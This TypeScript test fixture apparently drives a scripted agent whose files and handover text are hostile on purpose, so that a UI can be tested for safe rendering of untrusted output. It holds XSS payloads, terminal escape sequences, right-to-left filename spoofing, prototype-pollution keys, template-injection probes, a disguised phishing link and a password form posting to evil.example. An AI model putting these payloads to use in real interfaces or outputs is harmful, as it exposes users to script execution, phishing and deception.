import { join } from 'node:path'
import type { ToolCall } from '../../../assets/scripted-model/reply.ts'
import { outputFile } from '../../../assets/scripted-model/box-work.ts'
import { handoverText } from '../../../assets/scripted-model/handover.ts'
import { say } from '../../../assets/scripted-model/reply.ts'
import { worker } from '../../../assets/scripted-model/worker.ts'

/** Does something that a test can see, wherever it is run. */
const RUN = `globalThis.pwned=1;alert('pwned')`
const ESCAPE = '\u001b'
const RIGHT_TO_LEFT = '\u202e'

/** Markup, Markdown and characters of every kind that could run, load, hide or deceive. */
export const HOSTILE_LINE = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `${ESCAPE}[31mred${ESCAPE}[0m${ESCAPE}]0;pwned\u0007`,
  `invoice${RIGHT_TO_LEFT}cod.exe`,
  'zero\u200bwidth',
  '__proto__ constructor {{7*7}} ${7*7}',
].join(' ')

export const LIE = '[https://good.example](https://evil.example/phish?who=you)'

const HOSTILE_MARKDOWN = `
## Hostile

${HOSTILE_LINE}

<iframe src="https://evil.example/frame"></iframe>
<style>@import url(https://evil.example/style.css); body { display: none }</style>
<form action="https://evil.example/form"><input name="password"></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">

![pixel](https://evil.example/pixel.png) ![data](data:image/svg+xml,<svg/onload=${RUN}>) ![relative](/auth/session)

${LIE} [script](javascript:${RUN}) [tab](java&#9;script:${RUN}) [data](data:text/html,<script>${RUN}</script>) [blob](vbscript:x)

<https://evil.example/auto> <javascript:alert(1)> https://evil.example/bare [reference][__proto__] [footnote][^constructor]

[__proto__]: https://evil.example/reference "title"
[^constructor]: ![in a note](https://evil.example/note.png)

| <b>cell</b> | \`<script>${RUN}</script>\` |
| - | - |
| ${'|'.repeat(3)} | ${'x'.repeat(20_000)} |

${'> '.repeat(200)}deep

\`\`\`html
<script>${RUN}</script>
\`\`\`
`

export const HOSTILE_FILES = ['out/__proto__.txt', 'out/<img src=x onerror=alert(1)>.txt', 'out/constructor.txt']

/** A careful worker whose words are an attack on whoever shows them. It asks for a person after the first handover. */
export const hostile = worker({
  steps: ({ box, conversation }): ToolCall[] => [
    ...HOSTILE_FILES.map((file) => write(join(conversation.cwd, file))),
    write(join(conversation.cwd, outputFile(box))),
  ],
  handover: (facts) => `${handoverText(facts)}${HOSTILE_MARKDOWN}`,
  instead: ({ entries, calls, request }) => {
    if (request?.kind === 'checkpoint' || request?.kind === 'repair') return null
    const asked = entries.findLastIndex((entry) => entry.kind === 'said' && entry.text.includes('BATON: NEEDS-HUMAN'))
    if (asked >= 0) return entries.slice(asked).some((entry) => entry.kind === 'prompt') ? null : say('I wait.')
    const handedOver = calls.some(({ name, result }) => name === 'Read' && result?.text.includes('## Hostile'))
    return handedOver ? say(`Look.\n\nBATON: NEEDS-HUMAN ${HOSTILE_LINE}`) : null
  },
})

function write(file: string): ToolCall {
  return { name: 'Write', input: { file_path: file, content: `${HOSTILE_LINE}\n` } }
}
